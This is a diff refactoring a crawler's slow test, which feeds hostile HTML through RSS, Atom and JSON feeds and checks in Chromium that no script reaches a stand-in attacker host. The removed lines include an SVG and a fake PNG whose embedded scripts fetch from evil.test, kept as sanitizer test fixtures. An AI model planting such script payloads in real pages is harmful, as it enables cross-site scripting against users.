@@ -14,89 +14,26 @@ import json
 import re
 import shutil
 import subprocess
-import threading
-from concurrent.futures import ThreadPoolExecutor
-from html import escape
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
 import yaml
 from conftest import needs, run_in_site
+from hostile_site import FORMATS, Beacon, hostile_images, json_feed, load_pages, rss_feed, title_of
 from selectolax.lexbor import LexborHTMLParser
 
 from crawler.store import ProvenanceIndex
 from crawler.store.fields import plain_or_quoted
 
-from browser import chromium, serve_folder
-from feed_replay import RSS, feed_source, feeds_yaml, rss, rss_item
-from replay import ReplayServer, Reply, image_bytes
+from browser import serve_folder
+from feed_replay import RSS, feed_source, feeds_yaml
+from replay import ReplayServer, Reply
 from runner import crawl
 
 pytestmark = [pytest.mark.slow, pytest.mark.node]
 CASES = yaml.safe_load(
     (Path(__file__).parent / "fixtures" / "hostile" / "cases.yaml").read_text(encoding="utf-8")
 )["cases"]
-EVIL_HOST = "evil.test"
-EVIL = f"http://{EVIL_HOST}"
-DATE = "Mon, 27 Sep 2021 23:54:59 GMT"
-SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/hit/svg-file\')"><script>fetch("http://evil.test/hit/svg-script")</script></svg>'
-
-
-def body_of(case: dict) -> str:
-    """The case's payload between two benign paragraphs that must survive."""
-    payload = case["html"].replace("EVIL", EVIL)
-    return f"<p>前文{case['id']}</p>{payload}<p>后文{case['id']}</p>"
-
-
-def title_of(case: dict) -> str:
-    return f"hostile {case['id']}"
-
-
-def rss_feed(cases: list[dict]) -> bytes:
-    items = [
-        rss_item(title_of(c), c["id"], body_of(c), date=DATE, link=f"https://feeds.test/{c['id']}")
-        for c in cases
-    ]
-    return rss("hostile rss", items)
-
-
-def atom_feed(cases: list[dict]) -> bytes:
-    entries = "".join(
-        f"<entry><title>{escape(title_of(c))}</title><id>urn:hostile:{c['id']}</id>"
-        f"<updated>2021-09-27T23:54:59Z</updated>"
-        f'<link href="https://feeds.test/{c["id"]}"/>'
-        f'<content type="html">{escape(body_of(c))}</content></entry>'
-        for c in cases
-    )
-    return (
-        '<?xml version="1.0" encoding="UTF-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
-        "<title>hostile atom</title><id>urn:hostile</id><updated>2021-09-27T23:54:59Z</updated>"
-        f"{entries}</feed>"
-    ).encode()
-
-
-def json_feed(cases: list[dict]) -> bytes:
-    items = [
-        {
-            "id": c["id"],
-            "url": f"https://feeds.test/{c['id']}",
-            "title": title_of(c),
-            "content_html": body_of(c),
-            "date_published": "2021-09-27T23:54:59Z",
-        }
-        for c in cases
-    ]
-    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "hostile json", "items": items}
-    return json.dumps(feed).encode()
-
-
-FORMATS = {
-    "rss": (rss_feed, RSS),
-    "atom": (atom_feed, {"Content-Type": "application/atom+xml; charset=utf-8"}),
-    "json": (json_feed, {"Content-Type": "application/feed+json; charset=utf-8"}),
-}
 
 
 def serve_hostile(replay: ReplayServer) -> list[dict]:
@@ -128,21 +65,7 @@ def serve_hostile(replay: ReplayServer) -> list[dict]:
         feed_source("benign", "https://feeds.test/benign.feed", images="keep", rewrite_images=True)
     )
 
-    def resolve(url: str) -> Reply | None:
-        path = urlsplit(url).path
-        if path.endswith(".svg"):
-            return Reply(200, SVG, {"Content-Type": "image/svg+xml"})
-        if path.endswith("fake.png"):
-            return Reply(
-                200,
-                b"<html><script>fetch('/hit/fake')</script></html>",
-                {"Content-Type": "image/png"},
-            )
-        if path.endswith(".png"):
-            return Reply(200, image_bytes(url), {"Content-Type": "image/png"})
-        return None
-
-    replay.resolver = resolve
+    replay.resolver = hostile_images
     return sources
 
 
@@ -178,71 +101,21 @@ def post_pages(public: Path) -> dict[str, Path]:
     return pages
 
 
-class Beacon(ThreadingHTTPServer):
-    """The attacker's host as the browser's proxy: records every request that leaves the page
-    (nothing leaves the machine), answers images with a picture and anything else empty."""
-
-    daemon_threads = True
-
-    def __init__(self) -> None:
-        super().__init__(("127.0.0.1", 0), _BeaconHandler)
-        self.hits: list[tuple[str, str]] = []  # (url, Accept)
-        self.lock = threading.Lock()
-
-
-class _BeaconHandler(BaseHTTPRequestHandler):
-    def log_message(self, format, *args) -> None:
-        pass
-
-    def _record(self) -> None:
-        with self.server.lock:
-            self.server.hits.append((self.path, self.headers.get("Accept", "")))
-
-    def do_GET(self) -> None:
-        self._record()
-        png = image_bytes(self.path)
-        self.send_response(200)
-        self.send_header("Content-Type", "image/png")
-        self.send_header("Content-Length", str(len(png)))
-        self.end_headers()
-        self.wfile.write(png)
-
-    do_POST = do_GET
-
-    def do_CONNECT(self) -> None:
-        self._record()
-        self.send_response(403)
-        self.end_headers()
-
-
 def test_no_payload_runs_in_chromium(published: Path, tmp_path: Path):
-    beacon = Beacon()
-    threading.Thread(target=beacon.serve_forever, daemon=True).start()
+    beacon = Beacon().start()
     site = serve_folder(published)
     base = f"http://127.0.0.1:{site.server_address[1]}/"
     pages = [p.relative_to(published).as_posix() for p in published.rglob("*.html")]
     images = [p.relative_to(published).as_posix() for p in (published / "_posts").rglob("*.*")]
     images = [p for p in images if not p.endswith(".html")]
     assert len(pages) > len(CASES) and images
-    proxy = f"http://127.0.0.1:{beacon.server_address[1]}"
-
-    def load(i_rel: tuple[int, str]) -> str:
-        i, rel = i_rel
-        profile = tmp_path / f"profile-{i % 2}"
-        return chromium(base + rel, "--dump-dom", proxy=proxy, profile=profile).stdout
-
     try:
-        with ThreadPoolExecutor(max_workers=2) as pool:
-            doms = list(pool.map(load, enumerate(pages + images)))
+        doms = load_pages(base, pages + images, proxy=beacon.proxy, profiles=tmp_path)
     finally:
         beacon.shutdown()
         site.shutdown()
     assert sum("article-title" in dom for dom in doms) >= len(CASES), "pages did not load"
-    attacker = [
-        (url, accept)
-        for url, accept in beacon.hits
-        if urlsplit(url).hostname == EVIL_HOST and not accept.startswith("image/")
-    ]
+    attacker = beacon.attacker_hits()
     assert attacker == [], f"requests to the attacker that are not plain image loads: {attacker}"
 
 
